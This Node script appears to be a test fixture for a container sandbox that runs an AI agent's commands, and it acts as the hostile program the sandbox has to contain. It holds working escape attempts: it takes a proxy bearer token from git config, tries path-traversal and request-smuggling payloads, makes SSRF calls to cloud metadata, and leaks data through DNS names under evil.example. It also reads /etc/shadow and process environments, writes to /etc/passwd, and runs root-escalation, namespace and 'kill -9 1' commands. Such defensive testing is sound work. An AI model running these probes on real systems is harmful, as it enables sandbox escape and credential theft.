/**
 * What a hostile program in a container tries. It runs there, as one command of the agent, knows nothing but its argument, and
 * prints what came of each try, packed: nothing on its way may take out what it found.
 * @see ../attacks.e2e.ts
 */
import { execFileSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { resolve4, resolveTxt } from "node:dns/promises";
import { accessSync, constants, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { isIPv6 } from "node:net";
import { userInfo } from "node:os";
import { gzipSync } from "node:zlib";
import { ANSWER_MS, EVERYBODY, overTls, raw, request } from "./exchange.mjs";

const SILENT_MS = 2_000;
/** Marks a socket as the local side-car marks its own, which nothing stops. */
const MARK = 'import socket; socket.socket().setsockopt(socket.SOL_SOCKET, 36, 100); print("marked")';
/**
 * Another run, and ports of the machine outside, with the addresses at which neighbours reach it over IPv6 without a route.
 * @type {{ other: string, ports: number[], machine: string[] }}
 */
const { other, ports, machine } = JSON.parse(process.argv[2] ?? "");
/** @type {Record<string, string>} */
const found = {};

const gateway = gatewayAddress();
const proxyToken = /Bearer (\S+)/.exec(run("git", "config", "--get-regexp", "extraheader"))?.[1] ?? "";
const [own = ""] = /run_[0-9A-Z]{26}/.exec(proxyToken) ?? [];

await ownLinkLocal();
await Promise.all([instance(), otherHosts(), otherPorts(), names(), datagrams()]);
files();
rights();
process.stdout.write(gzipSync(JSON.stringify(found)).toString("base64"));
process.exit(0);

/**
 * The network card's own address over IPv6 is on trial for a second or two after it has come up: until then nothing is sent from
 * it, and what is tried would fail for that reason alone. Where there is none, there is nothing to wait for.
 */
async function ownLinkLocal() {
  const untilMs = Date.now() + ANSWER_MS;
  const isOnTrial = () =>
    readText("/proc/net/if_inet6")
      .split("\n")
      .map((line) => line.trim().split(/\s+/))
      .some(
        ([address = "", , , , flags = ""]) => address.startsWith("fe80") && (Number.parseInt(flags, 16) & 0x40) > 0,
      );
  while (isOnTrial() && Date.now() < untilMs) await new Promise((done) => setTimeout(done, 50));
}

async function instance() {
  const paths = ["/", "/healthz", "/readyz", "/openapi.json", "/api/v1/routines", "/api/v1/runs", "/runner/pool"];
  paths.push("/webhooks/github", "/cdn-cgi/handler/scheduled", "/cdn-cgi/local/explorer", "/cdn-cgi/mf/scheduled");
  paths.push(`/proxy/${other}/git/0/info/refs?service=git-upload-pack`, `/runner/runs/${other}/link`);
  paths.push(
    `/proxy/${own}/../../api/v1/routines`,
    `/proxy/${own}/%2e%2e/${other}/git/0/info/refs`,
    `//proxy/${own}/x`,
  );
  paths.push(
    `/proxy/${own}/..%2f..%2fapi/v1/routines`,
    `/proxy/${own}/..\\..\\api\\v1\\routines`,
    "@evil.example/",
    "*",
  );
  for (const path of paths) found[`instance ${path}`] = await http("reveille.internal", path);
  const link = `/runner/runs/${own}/link`;
  const upgrade = {
    Upgrade: "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
  };
  found["own link with the proxy's token"] = await http("reveille.internal", link, { ...upgrade, ...bearer() });
  const steer = { "MF-Original-URL": "http://reveille.internal/healthz", "X-Original-URL": "/healthz" };
  found["own path that a header renames"] = await http("reveille.internal", `/proxy/${own}/nothing`, {
    ...steer,
    ...bearer(),
  });
  found["own path by a whole address"] = await http("reveille.internal", "http://reveille.internal/healthz");
  found["own host behind another"] = await http("reveille.internal\r\nHost: evil.example", "/healthz");
  found["instance by CONNECT"] = await raw(
    80,
    EVERYBODY,
    "CONNECT 127.0.0.1:80 HTTP/1.1\r\nHost: reveille.internal\r\n\r\n",
  );
  const smuggled =
    "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: reveille.internal\r\n\r\n";
  found["instance behind a request"] = await raw(
    80,
    EVERYBODY,
    `POST /proxy/${own}/x HTTP/1.1\r\nHost: reveille.internal\r\n${smuggled}`,
  );
}

async function otherHosts() {
  const hosts = ["evil.example", "localhost", "127.0.0.1", "0", "2130706433", "[::1]", gateway, "host.docker.internal"];
  hosts.push(
    "169.254.169.254",
    "0xa9fea9fe",
    "metadata.google.internal",
    "github.com:22",
    "github.com.",
    "a:b@github.com",
  );
  for (const host of hosts) found[`http ${host}`] = await http(host, "/latest/meta-data/");
  found["metadata by its address"] = await raw(80, "169.254.169.254", request("169.254.169.254", "/latest/meta-data/"));
  found["https evil.example"] = await https("evil.example", "evil.example");
  found["https github.com, then another host"] = await https("github.com", "evil.example");
  found["https without a name"] = await https("", "evil.example");
  const upgrade = { Upgrade: "websocket", Connection: "Upgrade" };
  found["WebSocket to evil.example"] = await http("evil.example", "/", upgrade);
  found["WebSocket to reveille.internal"] = await http("reveille.internal", `/proxy/${own}/x`, upgrade);
}

async function otherPorts() {
  const targets = [...ports, 22, 2375, 9229].flatMap((port) => [
    [gateway, port],
    ["host.docker.internal", port],
    ["127.0.0.1", port],
  ]);
  targets.push(
    ["1.1.1.1", 22],
    ["1.1.1.1", 53],
    ["8.8.8.8", 853],
    ["github.com", 22],
    ["github.com", 9418],
    ["fd00:ec2::254", 80],
    ...machine.map((address) => [address, ports[0]]),
  );
  await Promise.all(
    targets.map(async ([host, port]) => {
      found[`tcp ${host} ${port}`] = await raw(Number(port), String(host), request("reveille.internal", "/healthz"));
    }),
  );
}

async function names() {
  const secret = `${"s".repeat(60)}.evil.example`;
  found["name with a secret in it"] = await resolve4(secret).then(String, (error) => error.code);
  found["text of a name"] = await resolveTxt(secret).then(String, (error) => error.code);
}

async function datagrams() {
  for (const [host, port] of [
    [gateway, ports[0]],
    ["8.8.8.8", 123],
    ["1.1.1.1", 443],
    ["ff02::1%eth0", ports[0]],
    ...machine.map((address) => [address, ports[0]]),
  ]) {
    found[`udp ${host} ${port}`] = await new Promise((done) => {
      const socket = createSocket(isIPv6(host.replace(/%.*/, "")) ? "udp6" : "udp4");
      socket.on("message", () => done("answered"));
      socket.on("error", (error) => done(error.code));
      socket.send("x", Number(port), String(host), (error) => error && done(error.code));
      setTimeout(() => done("silent"), SILENT_MS);
    });
  }
  const ping =
    "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'x' * 64, ('8.8.8.8', 0)); print('sent')";
  found.ping = run("python3", "-c", ping);
}

function files() {
  const read = [
    "/proc/1/environ",
    "/proc/1/mem",
    "/proc/1/maps",
    "/proc/1/fd",
    "/proc/1/root",
    "/proc/1/cwd",
    "/root",
    "/etc/shadow",
  ];
  read.push("/dev/mem", "/dev/kmsg", "/proc/kcore", "/proc/kmsg", "/var/run/docker.sock", "/run/podman/podman.sock");
  for (const path of read) found[`read ${path}`] = attempt(() => reading(path));
  const write = [
    "/etc/passwd",
    "/etc/hosts",
    "/opt/reveille/x",
    "/usr/bin/x",
    "/var/lib/reveille/x",
    "/root/x",
    "/proc/sysrq-trigger",
  ];
  write.push(
    "/proc/sys/kernel/core_pattern",
    "/proc/1/mem",
    "/proc/1/oom_score_adj",
    "/sys/kernel/uevent_helper",
    "/sys/fs/cgroup/x",
  );
  write.push("/etc/ssl/certs/ca-certificates.crt", "/etc/cloudflare/certs/cloudflare-containers-ca.crt");
  for (const path of write)
    found[`write ${path}`] = attempt(() => writeFileSync(path, "x", { flag: "a" }) ?? "written");
  const me = String(userInfo().uid);
  const others = readdirSync("/proc").filter(
    (name) => /^\d+$/.test(name) && !readText(`/proc/${name}/status`).includes(`Uid:\t${me}\t`),
  );
  found["processes of others"] = others.length > 0 ? "seen" : "none";
  found["environment of others"] = others.map((pid) => readText(`/proc/${pid}/environ`)).join("");
  found["what can be read of others"] = others
    .flatMap((pid) =>
      ["mem", "maps", "fd", "fdinfo", "root", "cwd", "exe", "task/*/environ"].map((name) => `/proc/${pid}/${name}`),
    )
    .filter((path) => isReadable(path))
    .join(" ");
  found["own environment"] = run(
    "sh",
    "-c",
    "cat /proc/self/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'",
  );
  // The brackets keep the search from finding itself.
  found["link token in files"] = run(
    "sh",
    "-c",
    "grep -rlsaE --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 'rvl_lin[k]_run' / | head -5",
  );
  found["sockets in files"] = run(
    "sh",
    "-c",
    "find / -xdev -type s -not -path '/proc/*' 2>/dev/null; grep -c / /proc/net/unix",
  );
}

function rights() {
  found.status =
    readText("/proc/self/status")
      .match(/^(?:Uid|Gid|Groups|Cap\w+|NoNewPrivs|Seccomp):.*$/gm)
      ?.join("; ") ?? "";
  found["programs that are missing"] = run(
    "sh",
    "-c",
    "for p in su setpriv unshare nsenter mount /usr/sbin/chroot mknod date; do command -v $p >/dev/null || echo $p; done; true",
  );
  const commands = {
    "become root by su": "su root -c id",
    "become root by setpriv": "setpriv --reuid=0 id",
    "become root by python": "python3 -c 'import os; os.setuid(0); print(os.getuid())'",
    "become another user": "python3 -c 'import os; os.setuid(1); print(os.getuid())'",
    "own user namespace": "unshare -Ur id -u",
    "own network": "unshare -n true && echo entered",
    "network of others": "nsenter -t 1 -n true && echo entered",
    mount: "mount -t tmpfs none /mnt && echo mounted",
    "change root": "/usr/sbin/chroot / id -u",
    "make a device": "mknod /tmp/disk b 8 0 && echo made",
    "raw socket": "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print(\"open\")'",
    "mark by which the side-car lets its own through": `python3 -c '${MARK}'`,
    "mark by way of a user namespace": `unshare -Ur python3 -c '${MARK}'`,
    "frames of the network":
      "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print(\"open\")'",
    "signal to process 1": "kill -9 1 && echo sent",
    "signal to the runner":
      "for p in $(ls /proc | grep -E '^[0-9]+$'); do [ $(stat -c %u /proc/$p 2>/dev/null || echo x) = 0 ] && kill -0 $p 2>/dev/null && echo $p; done; true",
    "time of the machine": "date -s 2000-01-01 >/dev/null && echo set",
    "low port": 'python3 -c \'import socket; socket.socket().bind(("0.0.0.0", 80)); print("bound")\'',
  };
  for (const [name, command] of Object.entries(commands)) found[name] = run("sh", "-c", command);
}

function bearer() {
  return { Authorization: `Bearer ${proxyToken}` };
}

function http(host, path, headers) {
  return raw(80, EVERYBODY, request(host, path, headers));
}

function https(servername, host) {
  return overTls(servername, request(host, "/"));
}

function gatewayAddress() {
  const route = readText("/proc/net/route")
    .split("\n")
    .find((line) => line.split("\t")[1] === "00000000");
  const bytes = (route?.split("\t")[2] ?? "0100580A").match(/../g) ?? [];
  return bytes
    .reverse()
    .map((byte) => Number.parseInt(byte, 16))
    .join(".");
}

function run(program, ...words) {
  try {
    return execFileSync(program, words, {
      encoding: "utf8",
      timeout: 20_000,
      stdio: ["ignore", "pipe", "ignore"],
    }).trim();
  } catch (error) {
    return error.stdout?.trim() ? error.stdout.trim() : "refused";
  }
}

function reading(path) {
  try {
    return readdirSync(path).length >= 0 ? "listed" : "";
  } catch (error) {
    if (error.code !== "ENOTDIR") throw error;
    return readFileSync(path).length > 0 ? "read" : "empty";
  }
}

function attempt(work) {
  try {
    return String(work());
  } catch (error) {
    return String(error.code ?? error.message);
  }
}

function readText(path) {
  try {
    return readFileSync(path, "utf8");
  } catch {
    return "";
  }
}

function isReadable(path) {
  try {
    accessSync(path, constants.R_OK);
    return reading(path) !== "";
  } catch {
    return false;
  }
}
